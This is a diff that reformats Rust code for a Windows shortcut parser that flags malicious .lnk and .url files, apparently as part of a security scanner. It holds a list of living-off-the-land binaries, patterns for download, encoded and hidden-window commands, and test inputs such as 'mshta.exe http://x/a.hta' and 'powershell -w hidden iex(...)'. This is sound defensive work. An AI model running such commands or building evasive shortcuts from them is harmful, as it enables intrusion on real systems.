@@ -120,13 +120,21 @@ pub fn decode_ansi(b: &[u8]) -> String {
     if let Some(s) = encoding_rs::SHIFT_JIS.decode_without_bom_handling_and_without_replacement(b) {
         return s.into_owned();
     }
-    encoding_rs::WINDOWS_1252.decode_without_bom_handling(b).0.into_owned()
+    encoding_rs::WINDOWS_1252
+        .decode_without_bom_handling(b)
+        .0
+        .into_owned()
 }
 
 /// Decode UTF-16LE code units, capped.
 pub fn decode_utf16le(b: &[u8]) -> String {
-    let units = b.chunks_exact(2).take(MAX_STRING_CHARS).map(|c| u16::from_le_bytes([c[0], c[1]]));
-    char::decode_utf16(units).map(|r| r.unwrap_or('\u{FFFD}')).collect()
+    let units = b
+        .chunks_exact(2)
+        .take(MAX_STRING_CHARS)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]));
+    char::decode_utf16(units)
+        .map(|r| r.unwrap_or('\u{FFFD}'))
+        .collect()
 }
 
 /// NUL-terminated ANSI string at `off` within `b` (up to the end of `b`).
@@ -139,7 +147,11 @@ fn cstr_ansi(b: &[u8], off: usize) -> Option<String> {
 /// NUL-terminated UTF-16LE string at `off` within `b`.
 fn cstr_utf16(b: &[u8], off: usize) -> Option<String> {
     let rest = b.get(off..)?;
-    let end = rest.chunks_exact(2).position(|c| c == [0, 0]).map(|i| i * 2).unwrap_or(rest.len() & !1);
+    let end = rest
+        .chunks_exact(2)
+        .position(|c| c == [0, 0])
+        .map(|i| i * 2)
+        .unwrap_or(rest.len() & !1);
     Some(decode_utf16le(rest.get(..end)?))
 }
 
@@ -149,7 +161,10 @@ pub fn parse_lnk(b: &[u8]) -> Option<Lnk> {
     if u32_at(b, 0)? != 0x4C || b.len() < 0x4C {
         return None;
     }
-    let mut l = Lnk { flags: u32_at(b, 0x14)?, ..Default::default() };
+    let mut l = Lnk {
+        flags: u32_at(b, 0x14)?,
+        ..Default::default()
+    };
     let mut pos: usize = 0x4C;
 
     // 2.2 LinkTargetIDList
@@ -173,7 +188,9 @@ pub fn parse_lnk(b: &[u8]) -> Option<Lnk> {
     // 2.3 LinkInfo
     if l.flags & HAS_LINK_INFO != 0 && l.flags & FORCE_NO_LINK_INFO == 0 {
         let size = u32_at(b, pos).map(|s| s as usize);
-        let info = size.filter(|&s| s >= 0x1C).and_then(|s| b.get(pos..pos.checked_add(s)?));
+        let info = size
+            .filter(|&s| s >= 0x1C)
+            .and_then(|s| b.get(pos..pos.checked_add(s)?));
         match info {
             Some(info) => {
                 if !parse_link_info(info, &mut l) {
@@ -208,13 +225,25 @@ pub fn parse_lnk(b: &[u8]) -> Option<Lnk> {
         // Path fields longer than MAX_PATH are read as MAX_PATH characters and parsing goes on
         // right after them, as Windows does; a shortcut can hide its real arguments from
         // parsers that honour the oversized count (LnkParse3's padded_cli_arguments sample).
-        let count = if which != 0 && which != 3 { count.min(MAX_PATH) } else { count };
-        let len = if unicode { count as usize * 2 } else { count as usize };
+        let count = if which != 0 && which != 3 {
+            count.min(MAX_PATH)
+        } else {
+            count
+        };
+        let len = if unicode {
+            count as usize * 2
+        } else {
+            count as usize
+        };
         let start = pos + 2;
         // A string cut by the end of the file is kept as far as it goes.
         let avail = b.get(start..).unwrap_or(&[]);
         let raw = avail.get(..len).unwrap_or(avail);
-        let s = if unicode { decode_utf16le(raw) } else { decode_ansi(raw) };
+        let s = if unicode {
+            decode_utf16le(raw)
+        } else {
+            decode_ansi(raw)
+        };
         match which {
             0 => l.name = Some(s),
             1 => l.relative_path = Some(s),
@@ -240,8 +269,14 @@ pub fn parse_lnk(b: &[u8]) -> Option<Lnk> {
             break;
         };
         if u32_at(block, 4) == Some(0xA000_0001) {
-            let uni = block.get(268..788).and_then(|u| cstr_utf16(u, 0)).filter(|s| !s.is_empty());
-            let ansi = block.get(8..268).and_then(|a| cstr_ansi(a, 0)).filter(|s| !s.is_empty());
+            let uni = block
+                .get(268..788)
+                .and_then(|u| cstr_utf16(u, 0))
+                .filter(|s| !s.is_empty());
+            let ansi = block
+                .get(8..268)
+                .and_then(|a| cstr_ansi(a, 0))
+                .filter(|s| !s.is_empty());
             l.env_target = uni.or(ansi);
         }
         pos += block.len();
@@ -280,7 +315,9 @@ fn parse_link_info(info: &[u8], l: &mut Lnk) -> bool {
                 } else {
                     None
                 };
-                l.net_name = uni.filter(|s| !s.is_empty()).or_else(|| cstr_ansi(cnrl, net_off));
+                l.net_name = uni
+                    .filter(|s| !s.is_empty())
+                    .or_else(|| cstr_ansi(cnrl, net_off));
             } else {
                 ok = false;
             }
@@ -324,7 +361,11 @@ fn id_list_path(list: &[u8]) -> Option<String> {
             }
         } else if class & 0x70 == 0x30 {
             // File entry item: primary name at 14, Unicode when class flag 0x04 is set.
-            let name = if class & 0x04 != 0 { cstr_utf16(item, 14) } else { cstr_ansi(item, 14) };
+            let name = if class & 0x04 != 0 {
+                cstr_utf16(item, 14)
+            } else {
+                cstr_ansi(item, 14)
+            };
             if let Some(n) = name.filter(|s| !s.is_empty()) {
                 parts.push(n);
             }
@@ -364,7 +405,9 @@ pub fn parse_url(b: &[u8]) -> UrlShortcut {
         if !in_section {
             continue;
         }
-        let Some((k, v)) = line.split_once('=') else { continue };
+        let Some((k, v)) = line.split_once('=') else {
+            continue;
+        };
         let v: String = v.trim().chars().take(MAX_STRING_CHARS).collect();
         match k.trim().to_ascii_lowercase().as_str() {
             "url" => u.url = Some(v),
@@ -378,10 +421,39 @@ pub fn parse_url(b: &[u8]) -> UrlShortcut {
 
 /// Programs that attackers start from shortcuts (living-off-the-land binaries and script hosts).
 const LOLBINS: &[&str] = &[
-    "cmd", "powershell", "pwsh", "mshta", "wscript", "cscript", "rundll32", "regsvr32", "certutil",
-    "bitsadmin", "curl", "conhost", "forfiles", "msiexec", "explorer", "wmic", "schtasks", "hh",
-    "installutil", "regasm", "msbuild", "odbcconf", "pcalua", "scriptrunner", "bash", "wsl",
-    "finger", "expand", "esentutl", "msdt", "control", "cmstp", "ftp",
+    "cmd",
+    "powershell",
+    "pwsh",
+    "mshta",
+    "wscript",
+    "cscript",
+    "rundll32",
+    "regsvr32",
+    "certutil",
+    "bitsadmin",
+    "curl",
+    "conhost",
+    "forfiles",
+    "msiexec",
+    "explorer",
+    "wmic",
+    "schtasks",
+    "hh",
+    "installutil",
+    "regasm",
+    "msbuild",
+    "odbcconf",
+    "pcalua",
+    "scriptrunner",
+    "bash",
+    "wsl",
+    "finger",
+    "expand",
+    "esentutl",
+    "msdt",
+    "control",
+    "cmstp",
+    "ftp",
 ];
 
 /// Lolbins named in `text` as a program (`…\cmd.exe`, `cmd /c`, `"powershell"`), in list order.
@@ -396,21 +468,57 @@ pub fn lolbins_in(text: &str) -> Vec<&'static str> {
             let end = start + name.len();
             from = end;
             let before_ok = start == 0
-                || matches!(bytes.get(start - 1), Some(b'\\' | b'/' | b' ' | b'"' | b'\'' | b'&' | b'|' | b'(' | b'\t' | b'%' | b'^' | b';' | b','));
+                || matches!(
+                    bytes.get(start - 1),
+                    Some(
+                        b'\\'
+                            | b'/'
+                            | b' '
+                            | b'"'
+                            | b'\''
+                            | b'&'
+                            | b'|'
+                            | b'('
+                            | b'\t'
+                            | b'%'
+                            | b'^'
+                            | b';'
+                            | b','
+                    )
+                );
             let after = lower.get(end..).unwrap_or("");
             let after_ok = after.is_empty()
                 || after.starts_with(".exe")
                 || after.starts_with(".com")
-                || matches!(after.as_bytes().first(), Some(b' ' | b'"' | b'\'' | b'\t' | b'&' | b'|' | b')'));
+                || matches!(
+                    after.as_bytes().first(),
+                    Some(b' ' | b'"' | b'\'' | b'\t' | b'&' | b'|' | b')')
+                );
             // Bare short words ("control", "expand", "ftp", "hh") only count with ".exe" or at
             // the start of the command, so prose in a NAME_STRING does not match.
-            let short_word = matches!(name, "control" | "expand" | "ftp" | "hh" | "finger" | "bash" | "explorer");
+            let short_word = matches!(
+                name,
+                "control" | "expand" | "ftp" | "hh" | "finger" | "bash" | "explorer"
+            );
             // explorer opening a URL or a network path fetches and runs remote content.
             let with_url = name == "explorer" && {
-                let rest = after.trim_start_matches(".exe").trim_start_matches('"').trim_start();
-                rest.starts_with("http") || rest.starts_with("\\\\") || rest.starts_with("file:") || rest.starts_with("search-ms:")
+                let rest = after
+                    .trim_start_matches(".exe")
+                    .trim_start_matches('"')
+                    .trim_start();
+                rest.starts_with("http")
+                    || rest.starts_with("\\\\")
+                    || rest.starts_with("file:")
+                    || rest.starts_with("search-ms:")
             };
-            if before_ok && after_ok && (!short_word || with_url || after.starts_with(".exe") || start == 0 || bytes.get(start - 1) == Some(&b'\\')) {
+            if before_ok
+                && after_ok
+                && (!short_word
+                    || with_url
+                    || after.starts_with(".exe")
+                    || start == 0
+                    || bytes.get(start - 1) == Some(&b'\\'))
+            {
                 found.push(name);
                 break;
             }
@@ -423,13 +531,30 @@ pub fn lolbins_in(text: &str) -> Vec<&'static str> {
 fn command_signs(text: &str) -> Vec<&'static str> {
     let l = text.to_lowercase();
     let mut v = Vec::new();
-    if l.contains("http://") || l.contains("https://") || l.contains("ftp://") || l.contains("\\\\") || l.contains("downloadstring") || l.contains("downloadfile") || l.contains("invoke-webrequest") || l.contains("iwr ") || l.contains("start-bitstransfer") {
+    if l.contains("http://")
+        || l.contains("https://")
+        || l.contains("ftp://")
+        || l.contains("\\\\")
+        || l.contains("downloadstring")
+        || l.contains("downloadfile")
+        || l.contains("invoke-webrequest")
+        || l.contains("iwr ")
+        || l.contains("start-bitstransfer")
+    {
         v.push("download");
     }
-    if l.contains("-enc") || l.contains("-e ") || l.contains("frombase64string") || l.contains("^") && l.matches('^').count() > 5 {
+    if l.contains("-enc")
+        || l.contains("-e ")
+        || l.contains("frombase64string")
+        || l.contains("^") && l.matches('^').count() > 5
+    {
         v.push("obfuscation");
     }
-    if l.contains("-w hidden") || l.contains("-windowstyle hidden") || l.contains("-win hid") || l.contains("/min") {
+    if l.contains("-w hidden")
+        || l.contains("-windowstyle hidden")
+        || l.contains("-win hid")
+        || l.contains("/min")
+    {
         v.push("hidden");
     }
     v
@@ -451,7 +576,14 @@ fn analyze_lnk(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
     let target = l.target();
     let mut tags: Vec<&'static str> = Vec::new();
     let mut runs: Vec<&'static str> = Vec::new();
-    for s in [target.as_deref(), l.arguments.as_deref(), l.relative_path.as_deref()].into_iter().flatten() {
+    for s in [
+        target.as_deref(),
+        l.arguments.as_deref(),
+        l.relative_path.as_deref(),
+    ]
+    .into_iter()
+    .flatten()
+    {
         for n in lolbins_in(s) {
             if !runs.contains(&n) {
                 runs.push(n);
@@ -487,7 +619,10 @@ fn analyze_lnk(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
     ctx.finding_tagged("file.shortcut", loc, ev.join("; "), tags);
     if let Some(t) = l.truncated {
         // What followed the broken structure (arguments, icon) could not be read.
-        ctx.note(loc, format!("shortcut structure cut short at {t}: later fields not read"));
+        ctx.note(
+            loc,
+            format!("shortcut structure cut short at {t}: later fields not read"),
+        );
         ctx.incomplete();
     }
 }
@@ -502,7 +637,11 @@ fn analyze_url(ctx: &mut Ctx<'_>, bytes: &[u8], loc: &Location) {
             if l.starts_with("file:") || l.starts_with("\\\\") {
                 tags.push("file_url");
             }
-            if l.starts_with("search-ms:") || l.starts_with("ms-") || l.starts_with("javascript:") || l.starts_with("vbscript:") {
+            if l.starts_with("search-ms:")
+                || l.starts_with("ms-")
+                || l.starts_with("javascript:")
+                || l.starts_with("vbscript:")
+            {
                 tags.push("protocol_handler");
             }
             let path = l.split(['?', '#']).next().unwrap_or("");
@@ -568,9 +707,16 @@ mod tests {
 
     #[test]
     fn parses_link_info_and_strings() {
-        let b = lnk("C:\\Windows\\System32\\cmd.exe", "/c start evil.hta", "C:\\Windows");
+        let b = lnk(
+            "C:\\Windows\\System32\\cmd.exe",
+            "/c start evil.hta",
+            "C:\\Windows",
+        );
         let l = parse_lnk(&b).unwrap();
-        assert_eq!(l.target().as_deref(), Some("C:\\Windows\\System32\\cmd.exe"));
+        assert_eq!(
+            l.target().as_deref(),
+            Some("C:\\Windows\\System32\\cmd.exe")
+        );
         assert_eq!(l.arguments.as_deref(), Some("/c start evil.hta"));
         assert_eq!(l.working_dir.as_deref(), Some("C:\\Windows"));
         assert_eq!(l.truncated, None);
@@ -600,13 +746,25 @@ mod tests {
     #[test]
     fn lolbins_by_word() {
         assert_eq!(lolbins_in("C:\\Windows\\System32\\cmd.exe"), vec!["cmd"]);
-        assert_eq!(lolbins_in("/c powershell -w hidden iex(...)"), vec!["powershell"]);
-        assert_eq!(lolbins_in("%windir%\\system32\\mshta.exe http://x/a.hta"), vec!["mshta"]);
+        assert_eq!(
+            lolbins_in("/c powershell -w hidden iex(...)"),
+            vec!["powershell"]
+        );
+        assert_eq!(
+            lolbins_in("%windir%\\system32\\mshta.exe http://x/a.hta"),
+            vec!["mshta"]
+        );
         assert!(lolbins_in("C:\\Program Files\\cmdtools\\app.exe").is_empty());
         assert!(lolbins_in("C:\\AnonymusBrowser-v2.0\\AnonymusBrowser.exe").is_empty());
         assert!(lolbins_in("Open the control panel to expand").is_empty());
-        assert_eq!(lolbins_in("/c start explorer http://192.0.2.1/x"), vec!["explorer"]);
-        assert_eq!(lolbins_in("start explorer \\\\192.0.2.1\\share"), vec!["explorer"]);
+        assert_eq!(
+            lolbins_in("/c start explorer http://192.0.2.1/x"),
+            vec!["explorer"]
+        );
+        assert_eq!(
+            lolbins_in("start explorer \\\\192.0.2.1\\share"),
+            vec!["explorer"]
+        );
         assert!(lolbins_in("start explorer .android_secure").is_empty());
     }
 
